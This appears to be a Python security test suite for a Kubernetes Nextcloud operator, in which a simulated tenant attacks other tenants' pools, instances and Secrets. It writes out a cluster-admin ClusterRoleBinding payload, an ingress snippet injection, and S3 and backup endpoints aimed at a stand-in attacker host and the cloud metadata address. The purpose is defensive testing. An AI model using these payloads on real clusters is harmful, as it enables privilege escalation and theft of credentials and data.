"""Attacks on pools and on the instances of others."""

import asyncio
import json
from collections.abc import Sequence
from typing import Any, Final

from trust.attack import Attack, Scene
from trust.stage import ATTACKER, INSTANCES, PRIVATE, VICTIM

from konverge.crds.pools_v1alpha1 import Nextcloud, NextcloudInstance, NextcloudPool, NextcloudProfile
from konverge.errors import Forbidden
from konverge.kinds import kind
from konverge.reconcilers.shared.helm_release.kinds import HELM_RELEASE

SHARED: Final[dict[str, Any]] = {"poolSelector": {"matchLabels": {"tier": "shared"}}}
PRIVATE_POOL: Final[dict[str, Any]] = {"poolSelector": {"matchLabels": {"tier": "private"}}}
CRB: Final = {
    "apiVersion": "rbac.authorization.k8s.io/v1",
    "kind": "ClusterRoleBinding",
    "metadata": {"name": "mallory-is-admin"},
    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
    "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": ATTACKER}],
}
SECRET_FIELDS: Final[tuple[tuple[str, dict[str, Any]], ...]] = (
    ("mail.credentialsSecret", {"mail": {"enabled": True, "credentialsSecret": "smtp-of-victim"}}),
    ("admin.credentialsSecret", {"admin": {"credentialsSecret": "smtp-of-victim"}}),
    ("redis.credentialsSecret", {"redis": {"enabled": True, "credentialsSecret": "smtp-of-victim"}}),
    (
        "database.credentialsSecret",
        {"database": {"type": "postgresql", "managed": False, "credentialsSecret": "smtp-of-victim"}},
    ),
    ("s3.credentialsSecret", {"s3": {"enabled": True, "bucket": "files", "credentialsSecret": "smtp-of-victim"}}),
    (
        "database.postgres.backup.s3.credentialsSecret",
        {
            "database": {
                "type": "postgresql",
                "managed": True,
                "postgres": {
                    "backup": {"enabled": True, "s3": {"bucket": "files", "credentialsSecret": "smtp-of-victim"}}
                },
            }
        },
    ),
    (
        "backups.data.credentialsSecret",
        {"backups": {"data": {"enabled": True, "bucket": "files", "credentialsSecret": "smtp-of-victim"}}},
    ),
    (
        "ingress.tls.secretName",
        {
            "ingress": {
                "enabled": True,
                "host": "a.example.com",
                "tls": {"enabled": True, "secretName": "smtp-of-victim"},
            }
        },
    ),
)


async def claim(here: Scene, spec: dict[str, Any], name: str = "evil", **metadata: Any) -> None:
    """Create a Nextcloud as a tenant."""
    await here.mallory.create(Nextcloud, {"metadata": {"name": mine(here, name), **metadata}, "spec": spec})


def mine(here: Scene, name: str = "evil") -> str:
    """Return the name of an object of this attack."""
    return f"{name}-{here.number}"


async def forge(here: Scene, name: str = "evil", spec: dict[str, Any] | None = None, **metadata: Any) -> None:
    """Create a NextcloudInstance in the attacker's namespace, which no tenant may."""
    body = {"metadata": {"name": name, **metadata}, "spec": spec or {}}
    await here.landlord.create(NextcloudInstance, body)


async def victims_instance(here: Scene, name: str = "main") -> tuple[str, str]:
    found = await here.admin.get(Nextcloud, name, VICTIM)
    reference = found.status.instance_ref
    assert reference is not None
    return reference.namespace or INSTANCES, reference.name


async def released(here: Scene) -> str:
    """Return all releases outside the attacker's namespace that this attack could have written, as one text."""
    return json.dumps([one.to_dict()["spec"] for one in (await here.admin.list(HELM_RELEASE)).items])


# --- the chart and its values ---------------------------------------------------------------------------------------------------


def chart_row(name: str, row: str, part: dict[str, Any], marker: str) -> Attack:
    """Return an attack that writes a part of the spec which reaches a chart."""

    async def act(here: Scene) -> Sequence[str]:
        bases: tuple[dict[str, Any], ...] = (SHARED, {"profile": "base"}, {})
        for number, base in enumerate(bases):
            await claim(here, {**base, **part}, f"evil-{number}")
        await here.rest()
        text = await released(here)
        return [f"a release holds {marker}"] if marker in text else []

    return Attack(name, (f"Nextcloud spec.{row}",), act)


def secret_row(field: str, part: dict[str, Any]) -> Attack:
    """Return an attack that names the Secret of another tenant."""

    async def act(here: Scene) -> Sequence[str]:
        await claim(here, {**SHARED, **part}, "evil-pool")
        await claim(here, part, "evil-bare")
        await here.rest()
        stored = json.dumps([data.get("spec") for key, data in here.judge.objects() if key[0] in _USERS_OF_SECRETS])
        return [f"an object refers to the victim's Secret by {field}"] if "smtp-of-victim" in stored else []

    return Attack(f"a claim names the victims Secret in {field}", (f"Nextcloud spec.{field}",), act)


_USERS_OF_SECRETS: Final = frozenset(
    {
        "helmreleases.helm.toolkit.fluxcd.io",
        "clusters.postgresql.cnpg.io",
        "cronjobs.batch",
        "scheduledbackups.postgresql.cnpg.io",
    }
)


# --- pools and instances of others ----------------------------------------------------------------------------------------------


async def select_private(here: Scene) -> None:
    await claim(here, PRIVATE_POOL)


async def bind_private(here: Scene) -> None:
    for one in (await here.admin.list(NextcloudInstance, PRIVATE)).items:
        await claim(here, {"instanceRef": {"name": one.name, "namespace": PRIVATE}}, f"evil-{one.name}")


async def bind_taken(here: Scene) -> None:
    for number, name in enumerate(("main", "own")):
        namespace, instance = await victims_instance(here, name)
        await claim(here, {"instanceRef": {"name": instance, "namespace": namespace}}, f"evil-{number}")


async def bind_without_namespace(here: Scene) -> None:
    _, instance = await victims_instance(here)
    await claim(here, {"instanceRef": {"name": instance}})


async def bind_and_delete(here: Scene) -> None:
    await bind_private(here)
    await here.rest()
    await here.mallory.delete_all(Nextcloud)


async def retain(here: Scene) -> None:
    await claim(here, SHARED)
    await here.rest()
    await here.mallory.delete(Nextcloud, mine(here))


async def same_names(here: Scene) -> None:
    for name in ("main", "own"):
        await here.mallory.create(Nextcloud, {"metadata": {"name": name}, "spec": SHARED})


async def forge_metadata(here: Scene) -> None:
    victim = await here.admin.get(Nextcloud, "main", VICTIM)
    _, instance = await victims_instance(here)
    reference = {
        "apiVersion": "k8s.bnerd.com/v1alpha1",
        "kind": "Nextcloud",
        "name": "main",
        "uid": victim.metadata.uid,
        "controller": True,
        "blockOwnerDeletion": True,
    }
    marks = {
        "k8s.bnerd.com/assigned": "true",
        "k8s.bnerd.com/pool": "private",
        "k8s.bnerd.com/tenant": VICTIM,
        "k8s.bnerd.com/nextcloud": "main",
        "k8s.bnerd.com/instance": instance,
        "k8s.bnerd.com/claim-uid": victim.metadata.uid,
        "k8s.bnerd.com/force-delete": "true",
    }
    notes = {
        "k8s.bnerd.com/released-by": victim.metadata.uid,
        "k8s.bnerd.com/profile-digest": "forged",
        "k8s.bnerd.com/orphaned-since": "2000-01-01T00:00:00Z",
        "k8s.bnerd.com/spec-before-claim": "{}",
        "k8s.bnerd.com/reconcile": "now",
        "k8s.bnerd.com/run-maintenance": "occ user:list",
    }
    await claim(
        here,
        SHARED,
        labels=marks,
        annotations=notes,
        ownerReferences=[reference],
        finalizers=["k8s.bnerd.com/instance"],
    )


async def take_bucket(here: Scene) -> None:
    namespace, name = await victims_instance(here)
    instance = await here.admin.get(NextcloudInstance, name, namespace)
    applied = instance.status.applied_s3_config
    assert applied is not None
    bucket = applied.bucket
    for number, wanted in enumerate((bucket, "archive")):
        part = {"s3": {"enabled": True, "bucket": wanted, "credentialsSecret": "s3-keys"}}
        await claim(here, {**SHARED, **part}, f"evil-{number}")
    await here.rest()
    await here.mallory.delete_all(Nextcloud)


async def send_keys(here: Scene) -> None:
    for number, endpoint in enumerate(("https://mallory.example.com", "http://169.254.169.254", "https://[::1]:9000")):
        s3 = {"enabled": True, "endpoint": endpoint, "bucket": "files", "credentialsSecret": "s3-keys"}
        await claim(here, {**SHARED, "s3": s3}, f"evil-{number}")
        await claim(here, {**SHARED, "s3": {"endpoint": endpoint}}, f"bare-{number}")
    await claim(
        here,
        {"s3": {"enabled": True, "endpoint": "https://mallory.example.com", "credentialsSecret": "s3-keys"}},
        "bare",
    )


async def mirror_backups(here: Scene) -> Sequence[str]:
    data = {
        "enabled": True,
        "bucket": "loot",
        "endpoint": "https://mallory.example.com",
        "credentialsSecret": "s3-keys",
    }
    server = {name: value for name, value in data.items() if name != "enabled"}
    database = {"type": "postgresql", "managed": True, "postgres": {"backup": {"enabled": True, "s3": server}}}
    await claim(here, {**SHARED, "backups": {"data": data}}, "evil-files")
    await claim(here, {**SHARED, "database": database}, "evil-database")
    await here.rest()
    stored = json.dumps([data.get("spec") for key, data in here.judge.objects() if key[0] in _USERS_OF_SECRETS])
    return ["the platform's keys are used for a server of the attacker"] if "mallory.example.com" in stored else []


async def write_status(here: Scene) -> None:
    await claim(here, SHARED)
    namespace, instance = await victims_instance(here)
    status = {"instanceRef": {"name": instance, "namespace": namespace}}
    await here.mallory.patch(Nextcloud, mine(here), {"status": status}, subresource="status")


async def write_status_and_delete(here: Scene) -> None:
    """With a right on the status, which no tenant has: even this deletes nothing of the victim's."""
    await claim(here, PRIVATE_POOL)
    namespace, instance = await victims_instance(here)
    status = {"instanceRef": {"name": instance, "namespace": namespace}, "assignedAt": "2030-01-01T00:00:00Z"}
    here.judge.known.add(instance)
    await here.landlord.patch(Nextcloud, mine(here), {"status": status}, subresource="status")
    await here.rest()
    await here.landlord.delete(Nextcloud, mine(here))


async def hold_up(here: Scene) -> Sequence[str]:
    """Older claims that are rejected, or wait for something that does not exist, do not delay a claim of the victim."""
    parts: tuple[dict[str, Any], ...] = (
        {"helm": {"values": {"a": 1}}},
        {"mail": {"enabled": True, "credentialsSecret": "smtp-of-victim"}},
        {"s3": {"endpoint": "https://mallory.example.com"}},
        {"profile": "nobody"},
    )
    for number, part in enumerate(parts):
        await claim(here, {**SHARED, **part}, f"evil-{number}")
    await here.rest(30)
    await here.admin.create(Nextcloud.decode({"metadata": {"name": "late", "namespace": VICTIM}, "spec": SHARED}))
    await here.rest()
    late = await here.admin.get(Nextcloud, "late", VICTIM)
    await here.admin.delete(Nextcloud, "late", VICTIM)
    await here.rest()
    here.judge.rebase()  # the claim of the victim itself has changed the pool
    return [] if late.status.instance_ref is not None else [f"the victim's claim waits: {late.conditions}"]


async def drain_pool(here: Scene) -> None:
    for number in range(8):
        await claim(here, SHARED, f"evil-{number}")
    await here.rest()
    await here.mallory.delete_all(Nextcloud)


# --- forged members -------------------------------------------------------------------------------------------------------------


async def forge_as_tenant(here: Scene) -> None:
    await here.mallory.create(NextcloudInstance, {"metadata": {"name": "evil"}, "spec": {}})


async def capture(here: Scene) -> None:
    await forge(here, labels={"tier": "shared", "k8s.bnerd.com/assigned": "false", "k8s.bnerd.com/pool": "shared"})
    await here.rest(10)
    spec = {"poolSelector": {"matchLabels": {"tier": "shared"}}}
    body = {"metadata": {"name": "late", "namespace": VICTIM}, "spec": spec}
    for number in range(4):
        body["metadata"] = {"name": f"late-{number}", "namespace": VICTIM}
        await here.admin.create(Nextcloud.decode(body))
    await here.rest()


async def check_late(here: Scene) -> Sequence[str]:
    await capture(here)
    found = []
    for number in range(4):
        late = await here.admin.get(Nextcloud, f"late-{number}", VICTIM)
        reference = late.status.instance_ref
        if reference is not None and reference.namespace == ATTACKER:
            found.append(f"{late.name} was given an instance of the attacker")
        await here.admin.delete(Nextcloud, late.name, VICTIM)
    await here.rest()
    here.judge.rebase()  # the claims of the victim itself have changed the pool
    return found


async def forge_pool_members(here: Scene) -> None:
    for number in range(3):
        await forge(here, f"evil-{number}", labels={"k8s.bnerd.com/assigned": "false", "k8s.bnerd.com/pool": "private"})
    await asyncio.sleep(1200)


async def forge_claim_ref(here: Scene) -> Sequence[str]:
    waits = {
        "metadata": {"name": "waits", "namespace": VICTIM},
        "spec": {"poolSelector": {"matchLabels": {"tier": "none"}}},
    }
    late = await here.admin.create(Nextcloud.decode(waits))
    reference = {"namespace": VICTIM, "name": "waits", "uid": late.metadata.uid}
    await forge(here, spec={"claimRef": reference}, labels={"k8s.bnerd.com/claim-uid": late.metadata.uid})
    await here.rest()
    found = await here.admin.get(Nextcloud, "waits", VICTIM)
    await here.admin.delete(Nextcloud, "waits", VICTIM)
    return ["the victim's claim adopted the attacker's instance"] if found.status.instance_ref is not None else []


async def forge_name(here: Scene) -> None:
    """An instance with the name of the victim's instance, in another namespace, is deleted."""
    _, instance = await victims_instance(here)
    await forge(here, instance, spec={"database": {"type": "postgresql", "managed": True, "deleteOnCleanup": True}})
    await here.rest()
    await here.landlord.delete(NextcloudInstance, instance)


NAMESPACE_KIND: Final = kind("v1", "Namespace", namespaced=False, plural="namespaces")


async def create_pool(here: Scene) -> None:
    template = {"metadata": {"labels": {"tier": "private"}}}
    await here.mallory.create(NextcloudPool, {"metadata": {"name": "evil"}, "spec": {"template": template}})


async def create_profile(here: Scene) -> None:
    await here.mallory.create(NextcloudProfile, {"metadata": {"name": "evil"}, "spec": {"defaults": {}}})


async def hold_back(here: Scene) -> None:
    """A foreign finalizer on a claim that has an instance of the shared pool."""
    await claim(here, SHARED, finalizers=["attacker.example.com/never"])
    await here.rest()
    await here.mallory.delete(Nextcloud, mine(here))


ATTACKS: Final = (
    chart_row(
        "values of a claim reach the chart",
        "helm.values",
        {"helm": {"values": {"extraManifests": [CRB]}}},
        "mallory-is-admin",
    ),
    chart_row(
        "the chart version of a claim reaches Flux",
        "helm.version",
        {"helm": {"version": "6.6.6-mallory"}},
        "6.6.6-mallory",
    ),
    chart_row("the version of a claim becomes an image", "version", {"version": "33.0.1-mallory"}, "33.0.1-mallory"),
    chart_row(
        "annotations of an ingress inject configuration",
        "ingress.annotations",
        {
            "ingress": {
                "enabled": True,
                "host": "a.example.com",
                "annotations": {"nginx.ingress.kubernetes.io/configuration-snippet": "mallory-snippet"},
            }
        },
        "mallory-snippet",
    ),
    *(secret_row(field, part) for field, part in SECRET_FIELDS),
    Attack("keys of the platform go to a server that a claim names", ("Nextcloud spec.s3.endpoint",), send_keys),
    Attack(
        "backups go to a server that a claim names",
        ("Nextcloud spec.backups.data.endpoint", "Nextcloud spec.database.postgres.backup.s3.endpoint"),
        mirror_backups,
    ),
    Attack("a claim names the bucket of the victim", ("Nextcloud spec.s3.bucket",), take_bucket),
    Attack("a claim selects a pool that serves the victim only", ("Nextcloud spec.poolSelector",), select_private),
    Attack("a claim binds idle instances of another namespace", ("Nextcloud spec.instanceRef",), bind_private),
    Attack(
        "a claim binds and deletes instances of another namespace", ("Nextcloud spec.instanceRef",), bind_and_delete
    ),
    Attack("a claim binds the victims instances", ("Nextcloud spec.instanceRef",), bind_taken),
    Attack(
        "a claim binds the victims instance without a namespace",
        ("Nextcloud spec.instanceRef",),
        bind_without_namespace,
    ),
    Attack("a claim gives back what it took", ("Nextcloud spec.poolSelector",), retain),
    Attack("claims have the names of the victims claims", ("Nextcloud metadata.name",), same_names),
    Attack(
        "a claim has forged labels annotations and owners",
        ("Nextcloud metadata.labels", "Nextcloud metadata.annotations", "Nextcloud metadata.ownerReferences"),
        forge_metadata,
    ),
    Attack("a claim has a finalizer of the attacker", ("Nextcloud metadata.finalizers",), hold_back),
    Attack("refused claims hold up a claim of the victim", ("Nextcloud spec.poolSelector",), hold_up),
    Attack("claims empty the shared pool and go", ("Nextcloud spec.poolSelector",), drain_pool),
    Attack("a tenant writes the status of a claim", ("Nextcloud status",), write_status, Forbidden),
    Attack("a forged status names the victims instance", ("Nextcloud status",), write_status_and_delete),
    Attack("a tenant creates an instance", ("NextcloudInstance",), forge_as_tenant, Forbidden),
    Attack("a tenant creates a pool", ("NextcloudPool",), create_pool, Forbidden),
    Attack("a tenant creates a profile", ("NextcloudProfile",), create_profile, Forbidden),
    Attack("a forged member captures a claim of the victim", ("NextcloudInstance metadata.labels",), check_late),
    Attack("forged members make a pool delete its own", ("NextcloudInstance metadata.labels",), forge_pool_members),
    Attack("a forged claimRef is adopted", ("NextcloudInstance spec.claimRef",), forge_claim_ref),
    Attack("an instance of the victims name is taken down", ("NextcloudInstance metadata.name",), forge_name),
)
